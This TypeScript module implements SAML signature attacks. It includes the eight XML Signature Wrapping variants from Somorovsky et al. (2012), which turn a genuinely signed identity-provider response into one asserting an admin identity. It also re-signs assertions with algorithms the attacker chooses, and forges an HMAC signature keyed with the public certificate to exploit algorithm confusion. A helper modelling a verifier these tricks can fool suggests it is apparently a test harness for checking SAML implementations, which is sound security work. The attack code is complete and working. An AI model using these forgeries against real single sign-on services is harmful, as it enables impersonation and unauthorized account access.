/**
 * Attacks on signed SAML messages. Wrapping: Somorovsky et al., "On Breaking SAML: Be Whoever You Want to Be" (USENIX Security 2012), table of the eight
 * variants. Each takes a response that a real identity provider has signed and makes one that says something else.
 */
import { createHmac } from 'node:crypto';
import { DOMParser, type Document, type Element, XMLSerializer } from '@xmldom/xmldom';
import { SignedXml } from 'xml-crypto';

const DS = 'http://www.w3.org/2000/09/xmldsig#';
const SAML = 'urn:oasis:names:tc:SAML:2.0:assertion';
const SAMLP = 'urn:oasis:names:tc:SAML:2.0:protocol';
/** Whom every forgery wants to be. */
export const FORGED = 'admin@example.test';

const parse = (xml: string): Document => new DOMParser().parseFromString(xml, 'text/xml');
const write = (document: Document): string => new XMLSerializer().serializeToString(document);

interface Parts {
  readonly document: Document;
  readonly response: Element;
  readonly assertion: Element;
  /** Of the assertion, and of the response where it has one. */
  readonly signature: Element;
  readonly outer: Element | undefined;
}

function partsOf(xml: string): Parts {
  const document = parse(xml);
  const response = document.documentElement!;
  const child = (of: Element, namespace: string, name: string): Element | undefined =>
    [...of.getElementsByTagNameNS(namespace, name)].find((one) => one.parentNode === of);
  const assertion = child(response, SAML, 'Assertion')!;
  return {
    document,
    response,
    assertion,
    signature: child(assertion, DS, 'Signature')!,
    outer: child(response, DS, 'Signature'),
  };
}

/** A copy of an assertion or a response in the forged name, with another ID and without signatures. */
function evil(of: Element): Element {
  const copy = of.cloneNode(true) as Element;
  for (const signature of [...copy.getElementsByTagNameNS(DS, 'Signature')]) signature.parentNode?.removeChild(signature);
  copy.setAttribute('ID', '_evil0123456789');
  if (copy.localName === 'Response') {
    for (const inner of copy.getElementsByTagNameNS(SAML, 'Assertion')) inner.setAttribute('ID', '_evil9876543210');
  }
  for (const name of copy.getElementsByTagNameNS(SAML, 'NameID')) name.textContent = FORGED;
  return copy;
}

type Wrap = (parts: Parts) => void;

/** Of a response that is signed itself: 1 and 2. Of one whose assertion is signed: 3 to 8. */
export const WRAPPINGS: Readonly<Record<`XSW${1 | 2 | 3 | 4 | 5 | 6 | 7 | 8}`, Wrap>> = {
  XSW1: ({ document, response, outer }) => {
    const copy = evil(response);
    document.replaceChild(copy, response);
    response.removeChild(outer!);
    copy.insertBefore(outer!, copy.firstChild);
    outer!.appendChild(response);
  },
  XSW2: ({ document, response, outer }) => {
    const copy = evil(response);
    document.replaceChild(copy, response);
    response.removeChild(outer!);
    copy.insertBefore(response, copy.firstChild);
    copy.insertBefore(outer!, response);
  },
  XSW3: ({ response, assertion }) => void response.insertBefore(evil(assertion), assertion),
  XSW4: ({ response, assertion }) => {
    const copy = evil(assertion);
    response.replaceChild(copy, assertion);
    copy.appendChild(assertion);
  },
  XSW5: ({ response, assertion, signature }) => {
    const copy = evil(assertion);
    response.replaceChild(copy, assertion);
    assertion.removeChild(signature);
    copy.insertBefore(signature, copy.firstChild);
    response.appendChild(assertion);
  },
  XSW6: ({ response, assertion, signature }) => {
    const copy = evil(assertion);
    response.replaceChild(copy, assertion);
    assertion.removeChild(signature);
    copy.insertBefore(signature, copy.firstChild);
    signature.appendChild(assertion);
  },
  XSW7: ({ document, response, assertion }) => {
    const extensions = document.createElementNS(SAMLP, 'samlp:Extensions');
    extensions.appendChild(evil(assertion));
    response.insertBefore(extensions, assertion);
  },
  XSW8: ({ document, response, assertion, signature }) => {
    const copy = evil(assertion);
    response.replaceChild(copy, assertion);
    assertion.removeChild(signature);
    copy.insertBefore(signature, copy.firstChild);
    const object = document.createElementNS(DS, 'ds:Object');
    object.appendChild(assertion);
    signature.appendChild(object);
  },
};

export function wrap(xml: string, how: keyof typeof WRAPPINGS): string {
  const parts = partsOf(xml);
  WRAPPINGS[how](parts);
  return write(parts.document);
}

/**
 * Whom careless services would believe the user to be: some signature in the document is right, and the name is taken from the first NameID there is,
 * or from the first assertion where one belongs. An attack that fools neither would prove nothing. Empty when no signature is right.
 */
export function careless(xml: string, cert: string): readonly (string | null | undefined)[] {
  const document = parse(xml);
  const right = [...document.getElementsByTagNameNS(DS, 'Signature')].some((signature) => {
    const verifier = new SignedXml({ publicCert: cert });
    verifier.loadSignature(new XMLSerializer().serializeToString(signature));
    try {
      return verifier.checkSignature(xml);
    } catch {
      return false;
    }
  });
  if (!right) return [];
  const names = [...document.getElementsByTagNameNS(SAML, 'NameID')];
  const placed = names.find(({ parentNode: subject }) => subject?.parentNode?.parentNode === document.documentElement);
  return [names[0]?.textContent, placed?.textContent];
}

export interface Resigning {
  readonly key: string;
  readonly signatureAlgorithm?: string;
  readonly digestAlgorithm?: string;
  readonly transforms?: readonly string[];
  readonly canonicalization?: string;
  /** XPath of what is signed; the assertion unless said. */
  readonly signed?: string;
  /** XPath of where the signature goes to. */
  readonly into?: string;
}

export const ALGORITHMS = {
  rsaSha1: `${DS}rsa-sha1`,
  rsaSha256: 'http://www.w3.org/2001/04/xmldsig-more#rsa-sha256',
  hmacSha1: `${DS}hmac-sha1`,
  sha1: `${DS}sha1`,
  sha256: 'http://www.w3.org/2001/04/xmlenc#sha256',
  enveloped: `${DS}enveloped-signature`,
  exclusive: 'http://www.w3.org/2001/10/xml-exc-c14n#',
  inclusive: 'http://www.w3.org/TR/2001/REC-xml-c14n-20010315',
} as const;

/** The message with the signature of its assertion made anew, in a way that whoever signs chooses. */
export function resign(xml: string, how: Resigning): string {
  const { document, assertion, signature } = partsOf(xml);
  assertion.removeChild(signature);
  const signer = new SignedXml({ privateKey: how.key, signatureAlgorithm: how.signatureAlgorithm ?? ALGORITHMS.rsaSha256 });
  if (how.signatureAlgorithm === ALGORITHMS.hmacSha1) signer.enableHMAC();
  signer.canonicalizationAlgorithm = how.canonicalization ?? ALGORITHMS.exclusive;
  signer.addReference({
    xpath: how.signed ?? "//*[local-name(.)='Assertion']",
    transforms: [...(how.transforms ?? [ALGORITHMS.enveloped, ALGORITHMS.exclusive])],
    digestAlgorithm: how.digestAlgorithm ?? ALGORITHMS.sha256,
  });
  const reference = how.into ?? "//*[local-name(.)='Assertion']/*[local-name(.)='Issuer']";
  signer.computeSignature(write(document), { prefix: 'ds', location: { reference, action: 'after' } });
  return signer.getSignedXml();
}

/** SHA-256 HMAC with the public certificate as its key: what a verifier accepts that lets the message choose the algorithm. */
export function hmacOf(xml: string, cert: string): string {
  const value = createHmac('sha256', cert)
    .update(/<ds:SignedInfo>[^]*<\/ds:SignedInfo>/.exec(xml)?.[0] ?? '')
    .digest('base64');
  return xml
    .replace(ALGORITHMS.rsaSha256, 'http://www.w3.org/2001/04/xmldsig-more#hmac-sha256')
    .replace(/(<ds:SignatureValue>)[^<]*/, `$1${value}`);
}
